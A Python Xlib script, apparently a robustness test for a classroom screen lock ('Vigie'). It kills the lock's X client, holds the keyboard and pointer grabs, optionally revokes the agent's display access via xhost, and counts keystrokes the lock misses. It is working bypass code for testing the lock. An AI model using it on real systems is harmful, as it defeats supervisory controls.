#!/usr/bin/python3
"""Attack, as the pupil in their X session: kill the lock's X connection
once, then take the keyboard and pointer grabs first and hold them for
SECONDS seconds, so the lock cannot grab again (AlreadyGrabbed).

    grab-hold.py SECONDS OUT [--revoke-vigie]

With --revoke-vigie it first takes the seat's X access away from Vigie
(`xhost -si:localuser:vigie`, which LightDM's display-setup-script granted),
so the agent cannot open the display again to relock; run
`xhost +si:localuser:vigie` afterwards to give it back.

Key presses the grab receives are keystrokes the lock did not hold: each is
counted (one byte per press, never the key itself) into OUT.
"""
import os
import subprocess
import sys
import time
from Xlib import X, display, error

seconds = float(sys.argv[1])
out = os.open(sys.argv[2], os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o644)
revoked = None
if "--revoke-vigie" in sys.argv[3:]:
    revoked = subprocess.run(["xhost", "-si:localuser:vigie"], capture_output=True).returncode == 0
d = display.Display()
screen = d.screen()
root = screen.root
killed = 0
for w in root.query_tree().children:
    try:
        a = w.get_attributes()
        g = w.get_geometry()
        if a.override_redirect and a.map_state == X.IsViewable and \
                g.width >= screen.width_in_pixels and g.height >= screen.height_in_pixels:
            w.kill_client()
            killed += 1
    except error.XError:
        pass
d.sync()
# Take the grabs the moment the lock's are gone (theirs end with its connection).
kb = pt = None
end = time.monotonic() + seconds
while time.monotonic() < end and (kb != X.GrabSuccess or pt != X.GrabSuccess):
    if kb != X.GrabSuccess:
        kb = root.grab_keyboard(False, X.GrabModeAsync, X.GrabModeAsync, X.CurrentTime)
    if pt != X.GrabSuccess:
        pt = root.grab_pointer(False, X.ButtonPressMask, X.GrabModeAsync, X.GrabModeAsync,
                               X.NONE, X.NONE, X.CurrentTime)
    time.sleep(0.001)
print(("" if revoked is None else f"revoked={revoked} ") + f"killed={killed} keyboard_grab={kb == X.GrabSuccess} pointer_grab={pt == X.GrabSuccess}", flush=True)
presses = 0
while time.monotonic() < end:
    while d.pending_events():
        e = d.next_event()
        if e.type == X.KeyPress:
            presses += 1
            os.write(out, b"k")
    time.sleep(0.005)
print(f"presses={presses}")
